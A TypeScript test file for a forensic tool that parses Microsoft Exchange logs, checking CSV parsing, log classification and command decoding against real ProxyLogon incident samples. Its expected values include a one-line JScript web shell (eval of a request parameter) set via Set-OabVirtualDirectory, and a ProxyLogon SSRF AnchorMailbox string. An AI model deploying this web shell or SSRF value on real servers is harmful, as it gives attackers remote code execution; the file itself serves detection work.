import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { LogRecord } from '../src/model.js';
import { splitCsvLine, isoTime } from '../src/parsers/csv.js';
import { decodeCmd, ecpCanary, parseEventData } from '../src/parsers/ecp.js';
import { classifyExchangeLog, ExchangeCsvParser, exchangeCoverageSource } from '../src/parsers/exchange.js';
import { external, needExternal } from './support/external.js';

const QZ = external('Qazeer-artefacts.help/extracted'); // vendored (CC0)
const HC = 'helsecert-2021-march-exchange/extracted';

/** Feeds a whole file through a parser the way the engine does (directives and data lines in order). */
function parseFile(path: string, format: string) {
  const parser = new ExchangeCsvParser(format, 'x');
  const recs: LogRecord[] = [];
  const lines = readFileSync(path, 'utf8').replace(/^\uFEFF/, '').split(/\r?\n/);
  lines.forEach((line, i) => {
    if (line.startsWith('#')) parser.directive(line, i + 1);
    else if (line) {
      const r = parser.parse(line, i + 1);
      if (r) recs.push(r);
    }
  });
  return { recs, facts: parser.facts() };
}

describe('splitCsvLine', () => {
  it('splits plain and quoted values, with "" escapes and empty trailing fields', () => {
    expect(splitCsvLine('a,,b,')).toEqual(['a', '', 'b', '']);
    expect(splitCsvLine('"x,y",z')).toEqual(['x,y', 'z']);
    expect(splitCsvLine('1,"-ResultSize ""1""",2')).toEqual(['1', '-ResultSize "1"', '2']);
    expect(splitCsvLine('"unterminated,rest')).toEqual(['unterminated,rest']);
    expect(splitCsvLine('"a",')).toEqual(['a', '']);
  });
  it('normalises timestamps to ISO 8601 UTC', () => {
    expect(isoTime('2021-03-03T06:49:42.162Z')).toBe('2021-03-03T06:49:42.162Z');
    expect(isoTime('2021-03-05 03:06:27')).toBe('2021-03-05T03:06:27.000Z');
    expect(isoTime('not a time')).toBeNull();
  });
});

describe('Exchange CSV logs (real artefacts.help samples)', () => {
  it('maps all 74 HttpProxy columns by header name and reads the build from #Version', () => {
    const { recs, facts } = parseFile(`${QZ}/Ecp__HttpProxy_2023010611-1.LOG`, 'httpproxy');
    expect(recs).toHaveLength(1);
    const f = recs[0].fields;
    expect(Object.keys(f)).toHaveLength(74);
    expect(f.UrlStem).toBe('/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application');
    expect(f.AnchorMailbox).toBe('ServerVersion~Version 15.0 (Build 0.0)');
    expect(f.RoutingHint).toBe('EDiscoveryExportTool-ServerVersion');
    expect(f.RoutingStatus).toBe('CafeV1');
    expect(recs[0].time).toBe('2023-01-06T11:47:32.435Z');
    expect(recs[0].line).toBe(6);
    expect(facts).toContainEqual({ kind: 'build', value: '15.01.2375.007', origin: '#Version', line: 2 });
    expect(facts).toContainEqual({ kind: 'hostname', value: 'SERVER-HOSTNAME', origin: 'ServerHostName', line: 6 });
    expect(facts).toContainEqual({ kind: 'build', value: '15.01.2375.000', origin: 'TargetServerVersion (back end, CU only)', line: 6 });
  });

  it('classifies logs by #Log-type, by a plain header line, and by path', () => {
    const head = (p: string) => readFileSync(p, 'utf8');
    expect(classifyExchangeLog(head(`${QZ}/Owa__HttpProxy_2023010602-1.LOG`), 'a/b.LOG')).toBe('httpproxy');
    expect(classifyExchangeLog(head(`${QZ}/ECPServer20230111-1.LOG`), 'x.LOG')).toBe('ecp-server');
    expect(classifyExchangeLog(head(`${QZ}/Rps_Cmdlet_2023011116-1.LOG`), 'x.LOG')).toBe('rps-cmdlet');
    expect(classifyExchangeLog(head(`${QZ}/Ews_2023010616-1.LOG`), 'x.LOG')).toBeNull();
    expect(classifyExchangeLog('whatever\n', 'C/Program Files/Microsoft/Exchange Server/V15/Logging/OABGeneratorLog/oab.log')).toBe('oabgen');
    expect(classifyExchangeLog('readme text\n', 'notes.txt')).toBeNull();
    // A plain header line (a log copied without its directives, or a CSV export), in any case.
    expect(classifyExchangeLog('\r\nDATETIME,RequestId,UrlStem,ANCHORMAILBOX\r\n2021-03-03T00:00:00Z,a,/owa/,x\r\n', 'x.csv')).toBe('httpproxy');
    expect(classifyExchangeLog('"TimeStamp","EventData"\n', 'x.csv')).toBe('ecp-server');
    expect(classifyExchangeLog('var anchorMailbox = eventData(urlStem, dateTime);\n', 'owa/scripts/boot.js')).toBeNull();
  });

  it('names coverage sources by protocol folder', () => {
    expect(exchangeCoverageSource('httpproxy', 'C/x/Logging/HttpProxy/Ecp/HttpProxy_2021030306-1.LOG')).toBe('HttpProxy/Ecp');
    expect(exchangeCoverageSource('httpproxy', 'Owa__HttpProxy_2023010602-1.LOG')).toBe('HttpProxy/Owa');
    expect(exchangeCoverageSource('ecp-server', 'ECPServer.LOG')).toBe('ECP Server');
  });

  it('classifies and reads a Test-ProxyLogon CSV export (#TYPE line, quoted plain header)', (ctx) => {
    const csv = needExternal(ctx, `${HC}/httpproxy_ecp_Test-ProxyLogon_CVE-2021-26855_selected_columns.csv`);
    expect(classifyExchangeLog(readFileSync(csv, 'utf8'), 'x.csv')).toBe('httpproxy');
    const { recs } = parseFile(csv, 'httpproxy');
    expect(recs).toHaveLength(11);
    expect(recs[2].fields.AnchorMailbox).toBe('ServerInfo~a]@servernavn.xxx.local:444/ecp/proxyLogon.ecp?#');
    expect(recs[2].fields.HttpStatus).toBe('241');
    expect(recs[2].line).toBe(5);
  });

  it('rejects data before any header with a clear message', () => {
    const p = new ExchangeCsvParser('httpproxy', 'x');
    expect(() => p.parse('2021-03-03T06:49:42.162Z,abc', 1)).toThrow(/before any #Fields/);
  });

  it('maps the Rps Cmdlet log (67 columns, quoted Parameters)', () => {
    const { recs } = parseFile(`${QZ}/Rps_Cmdlet_2023011116-1.LOG`, 'rps-cmdlet');
    expect(recs.length).toBeGreaterThan(0);
    expect(Object.keys(recs[0].fields).length).toBe(67);
    expect(recs[0].fields.ProcessName).toMatch(/w3wp/);
  });
});

describe('ECP Server EventData', () => {
  it('parses the bag of a real benign line', () => {
    const { recs } = parseFile(`${QZ}/ECPServer20230111-1.LOG`, 'ecp-server');
    expect(recs).toHaveLength(1);
    expect(recs[0].fields['S:CMD']).toBe('Get-InboxRule');
    expect(recs[0].fields['S:BLD']).toBe('15.1.2375.7');
    const parser = new ExchangeCsvParser('ecp-server', 'x');
    readFileSync(`${QZ}/ECPServer20230111-1.LOG`, 'utf8').split(/\r?\n/).forEach((l, i) => (l.startsWith('#') ? parser.directive(l, i + 1) : l && parser.parse(l, i + 1)));
    expect(parser.facts()).toContainEqual({ kind: 'build', value: '15.1.2375.7', origin: 'ECP S:BLD', line: 6 });
    expect(ecpCanary(recs[0].fields['S:URL'])).toBe('CANARY');
  });

  it('decodes the real HelseCERT Set-OabVirtualDirectory web-shell command', (ctx) => {
    const line = readFileSync(needExternal(ctx, `${HC}/ecpserver_ECPServer20210303-1_CVE-2021-27065_selected_fields.log`), 'utf8').split('\n')[6];
    const bag = parseEventData(line.slice(line.indexOf("'S:CMD")));
    const cmd = decodeCmd(bag.get('S:CMD')!);
    expect(cmd.cmdlet).toBe('Set-OabVirtualDirectory');
    expect(cmd.params).toEqual([
      ['ExternalUrl', 'http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>'],
      ['Identity', '982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3'],
    ]);
  });

  it('decodes pipelines, $null values and unquoted parameters', () => {
    expect(decodeCmd('Pipeline.1|Get-MailboxRegionalConfiguration')).toEqual({ cmdlet: 'Get-MailboxRegionalConfiguration', params: [] });
    expect(decodeCmd("Set-OabVirtualDirectory.ExternalUrl=$null.Identity='a.b'")).toEqual({
      cmdlet: 'Set-OabVirtualDirectory',
      params: [['ExternalUrl', '$null'], ['Identity', 'a.b']],
    });
    expect(decodeCmd('Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null').params).toEqual([['ADPropertiesOnly', '$true'], ['Identity', '$null']]);
  });
});
